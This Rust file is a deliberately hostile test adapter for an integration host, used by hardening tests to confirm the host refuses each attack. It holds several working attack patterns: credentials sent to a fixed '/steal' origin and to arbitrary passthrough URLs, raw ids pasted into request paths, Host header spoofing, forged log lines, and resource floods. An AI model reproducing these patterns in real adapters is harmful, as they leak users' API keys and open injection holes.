//! An adapter written to attack the host, one attack per entity; the
//! hardening tests (`host/tests/it/hostile.rs`) check that each is refused and
//! that other connections keep being served.
//!
//! - `paths`: pastes record ids into the upstream URL as they come (`get`,
//!   `update`, `delete`), as a careless adapter would;
//! - `huge-error`: fails with a 40 MiB message;
//! - `log-flood`: logs a million lines, some with line breaks that forge a
//!   host log line;
//! - `too-many`: answers 20,000 records for any page;
//! - `host-header`: sets `Host` to reach another virtual host;
//! - `reflect`: sends its API key to an upstream that echoes request headers,
//!   and answers what came back;
//! - `fixed-origin`: sends its API key to an origin the adapter fixed itself
//!   (`http://127.0.0.1:9`), not one the connection's config names;
//! - `sign`: asks the host to sign with the platform key through a text
//!   secret, for another issuer, for another audience, and for this
//!   connection; answers each outcome;
//! - `kv-flood`: stores [`KV_KEPT`] values, then misses [`KV_MISSES`] unique
//!   keys of 1 MiB and as many unique short ones (past the connection's
//!   quota), then holds the call (and the keys it fills) for `page_size`
//!   seconds in the upstream's `/api/ping`; answers how many it found.
//!   With the cursor `set:<tag>`, it writes `page_size` unique keys
//!   (`<tag>-<n>`) instead, and answers how many the host stored.
//!
//! Its passthrough sends the connection's API key to whatever URL the path
//! names (`/http://elsewhere/...`), as a careless adapter would.
//!
//! `describe` also tries the connection's store and the network, and says in
//! the manifest's description what it got. Features build variants whose
//! `describe` never returns, or declares 100,000 entities.

#![cfg(target_arch = "wasm32")]

use interlink_sdk::http::{Request, Response};
use interlink_sdk::manifest::*;
use interlink_sdk::secrets::JwtAlgorithm;
use interlink_sdk::{Context, Error, ListRequest, Page, PassthroughRequest, Result, Value, json};

struct Hostile;

const ENTITIES: [&str; 9] = [
    "paths",
    "huge-error",
    "log-flood",
    "too-many",
    "host-header",
    "reflect",
    "fixed-origin",
    "sign",
    "kv-flood",
];

/// Values `kv-flood` stores before its misses.
const KV_KEPT: u32 = 8;
/// Misses of `kv-flood`, of each size.
const KV_MISSES: u32 = 300;

fn one(record: Value) -> Result<Page> {
    Ok(Page {
        records: vec![record],
        next_cursor: None,
    })
}

fn base(ctx: &Context) -> Result<&str> {
    ctx.config("base_url")
}

/// What `describe` could do with the imports (it should get nothing).
fn imports_while_describing() -> String {
    let kv = interlink_sdk::kv::set("describe", b"x", None).is_ok();
    let http = Request::get("http://127.0.0.1:9/").send().is_ok();
    format!("kv: {}, http: {}", ok(kv), ok(http))
}

fn ok(done: bool) -> &'static str {
    if done { "allowed" } else { "refused" }
}

impl interlink_sdk::Adapter for Hostile {
    fn manifest() -> Manifest {
        if cfg!(feature = "describe-loops") {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        let mut manifest = Manifest::new("hostile", "Hostile (test adapter)", "1.0.0")
            .description(&imports_while_describing())
            .auth(AuthScheme::ApiKey)
            .config(ConfigField::url("base_url", "Upstream"))
            .config(ConfigField::text("client_id", "Client id"))
            .config(ConfigField::text("api_key", "API key").secret())
            .config(
                ConfigField::text("note", "A text secret")
                    .secret()
                    .optional(),
            )
            .config(ConfigField::private_key("signing_key", "Private key").optional())
            .outbound_host("{base_url}")
            .outbound_host("http://127.0.0.1:9")
            .limits(4, None)
            .passthrough();
        let count = if cfg!(feature = "huge-manifest") {
            100_000
        } else {
            ENTITIES.len()
        };
        for i in 0..count {
            let name = ENTITIES
                .get(i)
                .map_or_else(|| format!("entity-{i}"), |n| n.to_string());
            manifest = manifest.entity(
                Entity::new(&name, "an attack")
                    .operation(Operation::List, &[])
                    .operation(Operation::Get, &[])
                    .operation(Operation::Update, &[])
                    .operation(Operation::Delete, &[])
                    .field(Field::text("name")),
            );
        }
        manifest
    }

    fn connect(_ctx: &Context) -> Result<Account> {
        Ok(Account::new("hostile-1", "Hostile Inc."))
    }

    fn passthrough(_ctx: &Context, request: PassthroughRequest) -> Result<Response> {
        Request::new(request.method, request.path.trim_start_matches('/'))
            .secret_header("Authorization", "api_key", "Bearer ")
            .send()
    }

    fn list(ctx: &Context, request: ListRequest) -> Result<Page> {
        match request.entity.as_str() {
            "huge-error" => Err(Error::upstream(500, "x".repeat(40 << 20))),
            "log-flood" => {
                for i in 0..1_000_000u32 {
                    interlink_sdk::log::info(
                        "flood\n2026-11-29T00:00:00.000000Z  INFO interlink: forged line",
                        &[("line", &i.to_string())],
                    );
                }
                one(json!({"logged": 1_000_000}))
            }
            "too-many" => Ok(Page {
                records: (0..20_000).map(|i| json!({"id": i.to_string()})).collect(),
                next_cursor: None,
            }),
            "host-header" => {
                let response = Request::get(format!("{}/api/echo", base(ctx)?))
                    .header("Host", "internal.example")
                    .send();
                one(
                    json!({"sent": response.is_ok(), "error": response.err().map(|e| format!("{e:?}"))}),
                )
            }
            "reflect" => {
                let response = Request::get(format!("{}/api/echo", base(ctx)?))
                    .secret_header("Authorization", "api_key", "Bearer ")
                    .send()?;
                let echoed: Value = response.json()?;
                one(json!({"echoed": echoed}))
            }
            "fixed-origin" => {
                let response = Request::get("http://127.0.0.1:9/steal")
                    .secret_header("Authorization", "api_key", "Bearer ")
                    .send();
                one(
                    json!({"sent": response.is_ok(), "error": response.err().map(|e| format!("{e:?}"))}),
                )
            }
            "sign" => {
                let now = interlink_sdk::clock::now_seconds();
                let claims = |iss: &str, aud: &str| json!({"iss": iss, "aud": aud, "iat": now, "exp": now + 300});
                let token_url = format!("{}/token", base(ctx)?);
                let client = ctx.config("client_id")?;
                let attempt = |key: &str, claims: &Value| match interlink_sdk::secrets::sign_jwt(
                    key,
                    JwtAlgorithm::Es256,
                    None,
                    claims,
                ) {
                    Ok(_) => "signed".to_string(),
                    Err(e) => format!("refused: {e:?}"),
                };
                one(json!({
                    "text_secret": attempt("note", &claims(client, &token_url)),
                    "other_issuer": attempt("signing_key", &claims("someone-else", &token_url)),
                    "other_audience": attempt("signing_key", &claims(client, "https://other-account.example.com/token")),
                    "own": attempt("signing_key", &claims(client, &token_url)),
                }))
            }
            "kv-flood" => {
                let set = request
                    .cursor
                    .as_deref()
                    .and_then(|c| c.strip_prefix("set:"));
                if let Some(tag) = set {
                    let stored = (0..request.page_size)
                        .filter(|i| {
                            interlink_sdk::kv::set(&format!("{tag}-{i}"), b"v", None).is_ok()
                        })
                        .count();
                    return one(json!({"stored": stored}));
                }
                for i in 0..KV_KEPT {
                    interlink_sdk::kv::set(&format!("kept-{i}"), b"v", None)
                        .map_err(|e| Error::upstream(0, e))?;
                }
                let long = "k".repeat(1 << 20);
                let mut found = 0;
                for i in 0..KV_MISSES {
                    found += u32::from(interlink_sdk::kv::get(&format!("{i}-{long}")).is_some());
                    found += u32::from(interlink_sdk::kv::get(&format!("miss-{i}")).is_some());
                }
                let hold_ms = u64::from(request.page_size) * 1000;
                Request::get(format!("{}/api/ping?delay_ms={hold_ms}", base(ctx)?))
                    .secret_header("Authorization", "api_key", "Bearer ")
                    .send()?;
                one(json!({"found": found}))
            }
            other => Err(Error::not_found(format!("no entity {other}"))),
        }
    }

    fn get(ctx: &Context, entity: &str, id: &str) -> Result<Value> {
        // Pasted raw, on purpose: the host's id check is what stops a path.
        let response = Request::get(format!("{}/api/suppliers/{id}", base(ctx)?))
            .secret_header("Authorization", "api_key", "Bearer ")
            .send()?
            .error_for_status()?;
        let mut record: Value = response.json()?;
        record["entity"] = json!(entity);
        Ok(record)
    }

    fn update(ctx: &Context, _entity: &str, id: &str, patch: Value) -> Result<Value> {
        Request::patch(format!("{}/api/suppliers/{id}", base(ctx)?))
            .secret_header("Authorization", "api_key", "Bearer ")
            .json(&patch)
            .send()?
            .error_for_status()?
            .json()
    }

    fn delete(ctx: &Context, _entity: &str, id: &str) -> Result<()> {
        Request::delete(format!("{}/api/suppliers/{id}", base(ctx)?))
            .secret_header("Authorization", "api_key", "Bearer ")
            .send()?
            .error_for_status()?;
        Ok(())
    }
}

interlink_sdk::export_adapter!(Hostile);
